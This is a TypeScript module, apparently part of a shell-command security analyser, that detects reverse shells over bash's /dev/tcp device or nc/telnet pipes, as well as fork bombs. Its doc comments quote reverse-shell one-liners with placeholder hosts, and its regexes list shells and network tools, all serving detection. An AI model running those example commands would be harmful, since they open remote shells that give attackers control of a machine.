import { classifyHost } from '../classify-host.js';
import type { Reading } from '../reading.js';
import type { Value } from '../value.js';
import { hostOfDevice, keepOpen, openedDevice } from './network-device.js';
import type { Command, Pipeline, Word } from './syntax.js';

const SHELL_NAME = /(?:^|\/)(?:ba|z|da|k|a|tc|c|fi)?sh$|(?:^|\/)(?:python[\d.]*|cmd|powershell|pwsh)(?:\.exe)?$/u;
const PEER_NAME = /(?:^|\/)(?:nc|ncat|netcat|nc\.traditional|telnet|socat|openssl)$/u;

/** A shell with its input or output on bash's network device: `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 5<>/dev/tcp/…; sh <&5 >&5`. */
export function noteShellOnDevice(command: Command, reading: Reading, expand: (word: Word) => Value): void {
  const name = plainText(command.words[0]);
  const device = command.redirects.map(({ target }) => deviceText(target, expand)).find((path) => hostOfDevice(path) !== undefined);
  if (device !== undefined && (name === 'exec' || name === '')) keepOpen(reading, device);
  const opened = openedDevice(reading);
  const duplicates = command.redirects.some(
    (redirect) => /^[<>]&$/u.test(redirect.operator) && /^[3-9]$|^\d{2,3}$/u.test(plainText(redirect.target)),
  );
  // `coproc bash`, whose ends are joined to the connection by name.
  const joined = command.redirects.some((redirect) => /^[<>]&$/u.test(redirect.operator) && redirect.target.parts[0]?.kind === 'variable');
  const runsLines =
    (joined && name === 'cat') ||
    name === '' ||
    name.startsWith('$') ||
    SHELL_NAME.test(name) ||
    name === 'eval' ||
    command.words[0]?.parts[0]?.kind === 'variable';
  const target =
    device !== undefined && SHELL_NAME.test(name)
      ? device
      : opened !== undefined && duplicates && runsLines && command.words.length > 0
        ? opened
        : undefined;
  if (target === undefined) return;
  const host = hostOfDevice(target) ?? '';
  reading.note({
    kind: 'connect-shell',
    start: command.start,
    end: command.end,
    name: name === '' ? 'shell' : name,
    target,
    host: classifyHost(host).class,
  });
}

/** The network device that a word names, its host put together of variables or not; one that only the user gives stays open. */
function deviceText(target: Word, expand: (word: Word) => Value): string {
  const [first] = target.parts;
  const written = first?.kind === 'text' ? first.text : '';
  if (!written.startsWith('/dev/')) return plainText(target);
  const text = target.parts.length === 1 ? written : expand(target).text;
  return classifyHost(hostOfDevice(text) ?? '').class === 'variable' ? '' : text;
}

/** A shell in a pipe to a connection: `cat fifo | sh -i | nc HOST PORT > fifo`, `telnet HOST 1 | sh | telnet HOST 2`. */
export function noteShellBetweenPeers(pipeline: Pipeline, reading: Reading): void {
  if (pipeline.commands.length < 2) return;
  const names = pipeline.commands.map((command) => plainText(command.words[0]));
  const peer = names.findIndex((name) => PEER_NAME.test(name));
  const last = names.findLastIndex((name) => PEER_NAME.test(name));
  const shell = names.findIndex((name, index) => SHELL_NAME.test(name) && index > 0 && index < last && isBare(pipeline.commands[index]));
  const first = pipeline.commands[0];
  const interactive =
    first &&
    SHELL_NAME.test(names[0] ?? '') &&
    last > 0 &&
    (first.words.some((word) => plainText(word).startsWith('-i')) || first.redirects.some((redirect) => redirect.operator === '<'));
  const connection = pipeline.commands[last === -1 ? peer : last];
  if ((shell === -1 && !interactive) || !connection) return;
  const target = connection.words.slice(1).map(plainText).join(' ').slice(0, 200);
  const host = connection.words
    .slice(1)
    .map(plainText)
    .find((word) => !word.startsWith('-'));
  reading.note({
    kind: 'connect-shell',
    start: pipeline.start,
    end: pipeline.end,
    name: names[last] ?? 'nc',
    target,
    host: classifyHost(host ?? '').class,
  });
}

/** A function that pipes itself into itself in the background. */
export function noteForkBomb(command: Command, reading: Reading): void {
  for (const pipeline of command.body) {
    const self = pipeline.commands.filter((inner) => plainText(inner.words[0]) === command.name);
    if (self.length >= 2 && pipeline.separator === '&')
      reading.note({ kind: 'exhaust', start: command.start, end: command.end, name: command.name });
  }
}

function isBare(command: Command | undefined): boolean {
  return command?.words.slice(1).every((word) => /^-[a-z]{0,4}$/u.test(plainText(word))) === true;
}

/** The text of a word without expansions; empty when it has any. */
function plainText(word: Word | undefined): string {
  let text = '';
  for (const part of word?.parts ?? []) {
    if (part.kind === 'text') text += part.text;
    else return part.kind === 'variable' ? part.raw : '';
  }
  return text;
}
